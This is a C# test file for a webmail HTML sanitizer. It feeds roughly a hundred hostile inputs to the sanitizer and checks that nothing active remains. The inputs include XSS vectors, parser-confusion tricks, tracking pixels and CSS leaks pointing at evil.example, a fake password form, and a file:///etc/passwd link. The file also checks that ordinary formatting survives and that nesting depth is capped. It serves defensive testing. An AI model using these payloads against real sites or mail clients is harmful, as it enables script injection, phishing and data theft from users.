using System.Text.RegularExpressions;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CongVu.Mail.Jmap;
using CongVu.Server.Web.Html;

namespace CongVu.Server.Tests;

/// <summary>Hostile HTML, by the ways that are known from webmail: whatever it was, what is left runs nothing, loads nothing and asks for nothing.</summary>
public sealed partial class SafeHtmlTests
{
    private static readonly HashSet<string> Harmless = new(StringComparer.Ordinal)
    {
        "a", "abbr", "acronym", "address", "b", "bdi", "bdo", "big", "blockquote", "body", "br", "caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "dfn", "div", "dl", "dt", "em", "font", "h1",
        "h2", "h3", "h4", "h5", "h6", "head", "hr", "html", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s", "samp", "small", "span", "strike", "strong", "sub", "sup", "table", "tbody", "td",
        "tfoot", "th", "thead", "tr", "tt", "u", "ul", "var",
    };

    [Theory]
    // Script, plainly and in disguise.
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<SCRIPT SRC=//evil.example/x.js></SCRIPT>")]
    [InlineData("<scr<script>ipt>alert(1)</scr</script>ipt>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<img src=x OnErRoR = 'alert(1)'>")]
    [InlineData("<img/src=x/onerror=alert(1)>")]
    [InlineData("<body onload=alert(1)><p>a")]
    [InlineData("<div onmouseover=\"alert(1)\">a</div>")]
    [InlineData("<p onanimationstart=alert(1) style=\"animation:x\">a</p>")]
    [InlineData("<details open ontoggle=alert(1)>a</details>")]
    [InlineData("<video><source onerror=alert(1)></video>")]
    [InlineData("<audio src=x onerror=alert(1)></audio>")]
    [InlineData("<marquee onstart=alert(1)>a</marquee>")]
    [InlineData("<input autofocus onfocus=alert(1)>")]
    [InlineData("<keygen autofocus onfocus=alert(1)>")]
    [InlineData("<isindex action=javascript:alert(1) type=image>")]
    // Addresses.
    [InlineData("<a href=\"javascript:alert(1)\">a</a>")]
    [InlineData("<a href=\" jAvAsCrIpT:alert(1)\">a</a>")]
    [InlineData("<a href=\"java\tscript:alert(1)\">a</a>")]
    [InlineData("<a href=\"java&#10;script:alert(1)\">a</a>")]
    [InlineData("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">a</a>")]
    [InlineData("<a href=\"\u0001javascript:alert(1)\">a</a>")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">a</a>")]
    [InlineData("<a href=\"data:text/html,<script>alert(1)</script>\">a</a>")]
    [InlineData("<a href=\"data:image/svg+xml;base64,PHN2Zy8+\">a</a>")]
    [InlineData("<a href=\"file:///etc/passwd\">a</a>")]
    [InlineData("<a href=\"blob:https://mail.example/1\">a</a>")]
    [InlineData("<a href=\"/api/session\" ping=\"https://evil.example\">a</a>")]
    [InlineData("<area href=javascript:alert(1)><map name=x></map>")]
    [InlineData("<base href=\"https://evil.example/\"><a href=\"x\">a</a>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=https://evil.example\">")]
    [InlineData("<link rel=stylesheet href=https://evil.example/x.css>")]
    [InlineData("<link rel=prefetch href=https://evil.example/>")]
    // Pictures that tell, and pictures that act.
    [InlineData("<img src=\"https://evil.example/p.gif\">")]
    [InlineData("<img src=\"http://evil.example/p.gif\" width=1 height=1>")]
    [InlineData("<img src=\"//evil.example/p.gif\">")]
    [InlineData("<img src=\"/api/session\">")]
    [InlineData("<img srcset=\"https://evil.example/p.gif 1x\">")]
    [InlineData("<picture><source srcset=https://evil.example/p.gif><img></picture>")]
    [InlineData("<img lowsrc=https://evil.example/p.gif dynsrc=https://evil.example/p.gif>")]
    [InlineData("<table background=\"https://evil.example/p.gif\"><tr><td background=https://evil.example/p.gif>a</td></tr></table>")]
    [InlineData("<body background=https://evil.example/p.gif>a")]
    [InlineData("<video poster=https://evil.example/p.gif></video>")]
    [InlineData("<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">")]
    [InlineData("<img src=\"data:text/html;base64,PHNjcmlwdD4=\">")]
    // Styles.
    [InlineData("<p style=\"background:url(https://evil.example/p.gif)\">a</p>")]
    [InlineData("<p style=\"background-image:u\\72l(https://evil.example/p.gif)\">a</p>")]
    [InlineData("<p style=\"list-style-image:url('//evil.example/p.gif')\">a</p>")]
    [InlineData("<p style=\"content:url(https://evil.example)\">a</p>")]
    [InlineData("<p style=\"cursor:url(https://evil.example),auto\">a</p>")]
    [InlineData("<p style=\"width:expression(alert(1))\">a</p>")]
    [InlineData("<p style=\"-moz-binding:url(https://evil.example/x.xml#x)\">a</p>")]
    [InlineData("<p style=\"behavior:url(x.htc)\">a</p>")]
    [InlineData("<p style=\"background:image-set('https://evil.example/p.gif' 1x)\">a</p>")]
    [InlineData("<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:99\">Mật khẩu đã hết hạn</div>")]
    [InlineData("<div style=\"position:absolute;opacity:0\"><a href=https://evil.example>a</a></div>")]
    [InlineData("<style>@import url(https://evil.example/x.css);</style>")]
    [InlineData("<style>input[value^=a]{background:url(https://evil.example/a)}</style>")]
    [InlineData("<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>")]
    [InlineData("<style>*{color:red}</style><p>a</p>")]
    // Other markups, and the ways between them.
    [InlineData("<svg onload=alert(1)>")]
    [InlineData("<svg><script>alert(1)</script></svg>")]
    [InlineData("<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>")]
    [InlineData("<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>a</a></svg>")]
    [InlineData("<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>")]
    [InlineData("<svg><use href=\"https://evil.example/x.svg#x\"></svg>")]
    [InlineData("<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">")]
    [InlineData("<math href=\"javascript:alert(1)\">a</math>")]
    [InlineData("<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>")]
    [InlineData("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<template><img src=x onerror=alert(1)></template>")]
    [InlineData("<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>")]
    [InlineData("<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>")]
    [InlineData("<xmp><a title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>")]
    [InlineData("<!--><img src=x onerror=alert(1)>-->")]
    [InlineData("<!--[if mso]><script>alert(1)</script><![endif]-->")]
    [InlineData("<![CDATA[<img src=x onerror=alert(1)>]]>")]
    [InlineData("<?xml version=\"1.0\"?><?import namespace=\"t\" implementation=\"#default#time2\"?><p>a</p>")]
    [InlineData("<select><style></select><img src=x onerror=alert(1)></style>")]
    // Frames, objects, forms.
    [InlineData("<iframe src=https://evil.example></iframe>")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<frameset><frame src=javascript:alert(1)></frameset>")]
    [InlineData("<object data=https://evil.example/x.swf></object>")]
    [InlineData("<embed src=javascript:alert(1)>")]
    [InlineData("<applet code=x.class></applet>")]
    [InlineData("<form action=https://evil.example><input name=matkhau type=password><button>Đăng nhập</button></form>")]
    [InlineData("<button formaction=javascript:alert(1)>a</button>")]
    [InlineData("<div contenteditable><a href=x>a</a></div>")]
    [InlineData("<portal src=https://evil.example></portal>")]
    // Names that pages of scripts trip over.
    [InlineData("<a id=location name=location href=https://evil.example>a</a>")]
    [InlineData("<p id=__proto__ class=mantine-Modal-root>a</p>")]
    [InlineData("<slot name=x></slot><x-y is=z>a</x-y>")]
    public void Nothing_hostile_is_left(string html)
    {
        var clean = SafeHtml.Clean(new(html, new Dictionary<string, InlineImage>()), remoteImages: false).Html;
        // As it is parsed again, twice: what changes from one reading to the next is how filters are fooled.
        var once = new HtmlParser().ParseDocument(clean);
        var twice = new HtmlParser().ParseDocument(once.Body!.InnerHtml);
        Assert.Equal(once.Body!.InnerHtml, twice.Body!.InnerHtml);
        foreach (var element in twice.All)
        {
            Assert.Contains(element.LocalName, Harmless);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.LocalName.StartsWith("on", StringComparison.OrdinalIgnoreCase) || attribute.LocalName is "id" or "name" or "class" or "srcset" or "background" or "ping", clean);
                if (attribute.LocalName == "href")
                    Assert.Matches("^(https?|mailto|tel):|^[^:]*$", attribute.Value);
                if (attribute.LocalName == "src")
                    Assert.Matches("^data:image/(png|jpeg|jpg|gif|webp|bmp);base64,", attribute.Value);
                if (attribute.LocalName == "style")
                    Assert.DoesNotMatch(Acting(), attribute.Value);
            }
            if (element.LocalName == "a" && element.HasAttribute("href"))
                Assert.Equal(("_blank", "noopener noreferrer nofollow"), (element.GetAttribute("target"), element.GetAttribute("rel")));
        }
    }

    [Fact]
    public void Ordinary_mail_keeps_its_looks()
    {
        const string html = """
            <div style="font-family:'Times New Roman'; font-size: 14pt; color:#1F497D"><p align="center"><b>KÍNH GỬI</b></p><table border="1" cellpadding="4"><tr><td colspan="2" bgcolor="#eeeeee">Ô</td></tr></table>
            <a href="https://daknong.gov.vn/van-ban?id=1&amp;x=2">Văn bản</a> <a href="mailto:a@example.vn">thư</a><img src="cid:anh@1" width="20" alt="Ảnh"></div>
            """;
        var clean = SafeHtml.Clean(new(html, new Dictionary<string, InlineImage> { ["anh@1"] = new("image/png", [1, 2, 3]) }), remoteImages: false);
        var body = new HtmlParser().ParseDocument(clean.Html).Body!;
        Assert.Equal("KÍNH GỬI", body.QuerySelector("p[align=center] b")!.TextContent);
        Assert.Contains("font-size: 14pt", body.QuerySelector("div")!.GetAttribute("style"), StringComparison.Ordinal);
        Assert.Equal(("2", "#eeeeee"), (body.QuerySelector("td")!.GetAttribute("colspan"), body.QuerySelector("td")!.GetAttribute("bgcolor")));
        Assert.Equal("https://daknong.gov.vn/van-ban?id=1&x=2", body.QuerySelector("a")!.GetAttribute("href"));
        Assert.Equal("data:image/png;base64,AQID", body.QuerySelector("img")!.GetAttribute("src"));
        Assert.Equal(0, clean.BlockedImages);
    }

    [Fact]
    public void Remote_pictures_are_counted_and_shown_only_when_asked_for()
    {
        var message = new MessageHtml("<img src=https://a.example/1.png><img src=http://a.example/2.png><img src=cid:no>", new Dictionary<string, InlineImage>());
        Assert.Equal(2, SafeHtml.Clean(message, remoteImages: false).BlockedImages);
        var shown = SafeHtml.Clean(message, remoteImages: true);
        Assert.Equal(["https://a.example/1.png"], new HtmlParser().ParseDocument(shown.Html).QuerySelectorAll("img[src]").Select(i => i.GetAttribute("src")!));
    }

    [Theory]
    [InlineData("<div>", 50_000)]
    [InlineData("<b><i>", 20_000)]
    [InlineData("<table><tr><td>", 5_000)]
    [InlineData("<blockquote><font color=red>", 20_000)]
    public void Depth_is_bounded(string open, int times)
    {
        var clean = SafeHtml.Clean(new(string.Concat(Enumerable.Repeat(open, times)) + "Cuối", new Dictionary<string, InlineImage>()), remoteImages: false).Html;
        Assert.Contains("Cuối", clean, StringComparison.Ordinal);
        var deepest = 0;
        var pending = new Stack<(INode, int)>([(new HtmlParser().ParseDocument(clean), 0)]);
        while (pending.TryPop(out var at))
        {
            deepest = Math.Max(deepest, at.Item2);
            foreach (var child in at.Item1.ChildNodes)
                pending.Push((child, at.Item2 + 1));
        }
        Assert.True(deepest < 300, $"{deepest} levels");
    }

    [GeneratedRegex("url|expression|import|binding|behavior|position|image|\\\\|content|cursor|animation", RegexOptions.IgnoreCase)]
    private static partial Regex Acting();
}
